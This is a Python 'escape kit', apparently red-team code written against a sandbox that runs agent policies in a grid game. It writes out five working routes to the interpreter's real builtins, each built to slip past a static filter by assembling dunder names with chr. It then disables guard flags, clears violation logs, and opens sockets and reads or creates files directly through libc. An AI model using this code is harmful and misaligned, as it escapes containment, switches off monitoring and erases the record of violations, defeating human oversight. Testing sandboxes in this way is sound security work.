"""Escape kit, the first part of every attack that needs the real interpreter.

A policy that wants out of the sandbox's namespace needs the real ``builtins`` module. This
kit knows five routes to it, tries them in turn and keeps the first that works:

- ``functools.update_wrapper`` reads attributes by name: asked to "update" this policy's
  special ``globals`` attribute from a library function's, it merges that module's globals (which hold
  ``sys``) into the policy's own, where ``sys`` is then a plain name;
- ``operator.attrgetter`` / ``methodcaller`` with special names built at run time (the
  review's finding): a library function's special ``globals`` attribute, or the ``object`` subclass walk
  to ``os._wrap_close``;
- ``typing.get_type_hints`` evaluates string annotations with ``eval`` in a namespace that
  receives the real builtins;
- the review's finding on module views: a view keeps the real module in ``_target``.

Then :func:`disable_guards` walks the closures reachable from the signal handlers and from
this policy's own builtins, switches off every guard switch it finds (a dict with an
``enforce`` key, as the audit hook's was), and clears the violation logs it can reach.

Every special or private name is built at run time with ``chr``, so the static filter sees
none (the point of the attack). Nothing here acts on the host: the attacks that follow do.
"""

import functools
import operator
import statistics
import typing

U = chr(95)
D = U + U
KIT = {}


def dunder(name):
    return D + name + D


def sink():
    return None


def via_update_wrapper():
    functools.update_wrapper(sink, statistics.mean, assigned=(), updated=(dunder("globals"),))
    return sys.modules["builtins"]  # noqa: F821 - merged into this policy's globals just above


def via_attrgetter():
    module_globals = operator.attrgetter(dunder("globals"))(statistics.mean)
    return module_globals["sys"].modules["builtins"]


def via_subclasses():
    base = operator.attrgetter(dunder("class") + "." + dunder("base"))(())
    for cls in operator.methodcaller(dunder("subclasses"))(base):
        if operator.attrgetter(dunder("name"))(cls) == "_wrap_close":
            os_globals = operator.attrgetter(dunder("init") + "." + dunder("globals"))(cls)
            return os_globals["sys"].modules["builtins"]
    return None


def via_type_hints():
    class Box:
        value: D + "import" + D

    real_import = typing.get_type_hints(Box, globalns={"D": D})["value"]
    return real_import("builtins")


def via_view_target():
    real_helpers = operator.attrgetter(U + "target")(helpers)
    return operator.attrgetter(dunder("builtins"))(real_helpers)


ROUTES = (via_update_wrapper, via_attrgetter, via_subclasses, via_type_hints, via_view_target)


def real_builtins():
    """The real builtins module, or None when every route is closed."""
    if "builtins" in KIT:
        return KIT["builtins"]
    for route in ROUTES:
        try:
            found = route()
            if isinstance(found, dict):
                found = found[dunder("import")]("builtins")
            if found is not None:
                KIT["builtins"] = found
                KIT["route"] = route
                return found
        except Exception:
            pass
    return None


def real_import(name):
    """The real interpreter's import function (raises when no route is open)."""
    found = real_builtins()
    if found is None:
        raise LookupError("no route to the real builtins")
    return found.getattr(found, dunder("import"))(name, None, None, ("*",), 0)


def closure_values(root, real_getattr, ident, seen):
    """Every value reachable from ``root`` through closures and bound methods."""
    stack = [root]
    while stack:
        item = stack.pop()
        if ident(item) in seen:
            continue
        seen.add(ident(item))
        for name in (dunder("func"), dunder("self")):
            try:
                stack.append(real_getattr(item, name))
            except Exception:
                pass
        try:
            cells = real_getattr(item, dunder("closure")) or ()
        except Exception:
            cells = ()
        for cell in cells:
            try:
                value = real_getattr(cell, "cell_contents")
            except Exception:
                continue
            yield value
            stack.append(value)
            if isinstance(value, dict):
                stack.extend(value.values())


def disable_guards():
    """Switch off every guard switch found in closure state and clear the violation logs."""
    found = real_builtins()
    if found is None:
        return 0
    real_getattr = found.getattr
    signal = real_import("signal")
    roots = []
    for number in range(1, 32):
        try:
            roots.append(signal.getsignal(number))
        except Exception:
            pass
    try:
        own = operator.attrgetter(dunder("globals"))(policy)[dunder("builtins")]
        roots.extend(own.values())
    except Exception:
        pass
    switched = 0
    seen = set()
    for root in roots:
        for value in closure_values(root, real_getattr, found.id, seen):
            if isinstance(value, dict) and "enforce" in value:
                value["enforce"] = False
                value["armed"] = False
                switched += 1
            elif isinstance(value, list) and value and all(isinstance(v, str) for v in value):
                value.clear()
    try:
        gc = real_import("gc")
        for item in gc.get_objects():
            if isinstance(item, dict) and "enforce" in item:
                item["enforce"] = False
                switched += 1
    except Exception:
        pass
    return switched


def libc():
    """The C library through ctypes (already loaded in a worker that installs seccomp with it)."""
    ctypes = real_import("ctypes")
    return ctypes.CDLL(None, use_errno=True)


def c_connect(family, address):
    """socket() + connect() + write() straight through libc; the socket's fd, or -1."""
    c = libc()
    descriptor = c.socket(family, 1, 0)  # SOCK_STREAM
    if descriptor < 0 or c.connect(descriptor, address, len(address)) != 0:
        return -1
    c.write(descriptor, b"hello", 5)
    return descriptor


def c_connect_tcp(port):
    return c_connect(2, bytes([2, 0]) + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8))


def c_connect_abstract(name):
    return c_connect(1, bytes([1, 0, 0]) + name.encode())


def c_create(path, contents):
    """open(O_CREAT | O_WRONLY | O_TRUNC) + write() through libc; the number of bytes written."""
    c = libc()
    descriptor = c.open(path.encode(), 0o1101, 0o644)
    if descriptor < 0:
        return -1
    return c.write(descriptor, contents, len(contents))


def c_read(path):
    """open() + read() through libc: up to 64 KiB of the file, or b"" when refused."""
    c = libc()
    descriptor = c.open(path.encode(), 0, 0)
    if descriptor < 0:
        return b""
    buffer = real_import("ctypes").create_string_buffer(65536)
    count = c.read(descriptor, buffer, 65536)
    return buffer.raw[: max(count, 0)]


def harvest(state, agent_id):
    """vicgalle's honest BFS harvester: what the attacker plays once the attack is done."""
    found = helpers.nearest(state.grid, state.positions[agent_id], targets=2, walls=1)
    if found is None:
        return helpers.STAY
    return helpers.direction_to_action(found.direction, state.orientations[agent_id])
